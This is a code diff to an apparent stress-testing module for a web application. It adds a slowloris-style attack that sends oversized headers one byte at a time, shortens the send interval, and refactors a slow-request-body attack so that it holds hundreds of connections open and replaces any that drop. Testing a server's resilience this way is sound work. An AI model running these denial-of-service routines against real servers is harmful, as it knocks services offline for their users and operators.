@@ -139,6 +139,12 @@ def halting(url: str, many: int = 300) -> ExitStack:
     return stack
 
 
+def crumbling(url: str, seconds: float = 8, many: int = 300) -> ExitStack:
+    """Heads of fifteen thousand letters, and then a letter at a time: each asks for the end to be looked for again."""
+    said = request(path(url, ""), "X: " + "a" * 15_000).removesuffix("\r\n\r\n")
+    return _drips(url, seconds, many, said)
+
+
 def gorged(url: str, many: int = 60) -> ExitStack:
     """Large files and pages that nobody reads."""
     stack = ExitStack()
@@ -189,17 +195,21 @@ def dripping(url: str, seconds: float = 8, many: int = 200) -> ExitStack:
     """Bodies of requests that come a letter at a time."""
     one = Visitor(url).read(ONE_BOARD)
     known = (f"Cookie: _xsrf={one.token}", f"X-XSRFToken: {one.token}")
-    said = request(path(url, "begin"), "Content-Length: 60000", *known, method="POST")
+    return _drips(url, seconds, many, request(path(url, "begin"), "Content-Length: 60000", *known, method="POST"))
+
+
+def _drips(url: str, seconds: float, many: int, said: str) -> ExitStack:
+    """So many connections that say this and then a letter at a time; when one gave way another takes its place."""
     end = time.monotonic() + seconds
     with lines(url, many, said) as found:
         while time.monotonic() < end:
             for place, each in enumerate(found):
                 try:
                     each.send(b"a")
-                except OSError:  # it gave way: another takes its place
+                except OSError:
                     with suppress(OSError):
                         found[place] = line(url, said)
-            time.sleep(0.5)
+            time.sleep(0.1)
         for each in found:
             each.close()
     return ExitStack()
@@ -320,7 +330,7 @@ def suppress_all(deed: Callable[[], object]) -> None:
 ATTACKS: dict[str, Callable[[str], ExitStack]] = {
     one.__name__: one
     for one in (
-        *(deaf, idle, halting, gorged, sockets, greedy, vanishing, dripping, crowding, overlapping),
+        *(deaf, idle, halting, crumbling, gorged, sockets, greedy, vanishing, dripping, crowding, overlapping),
         *(swelling, pinging, withholding),
     )
 }
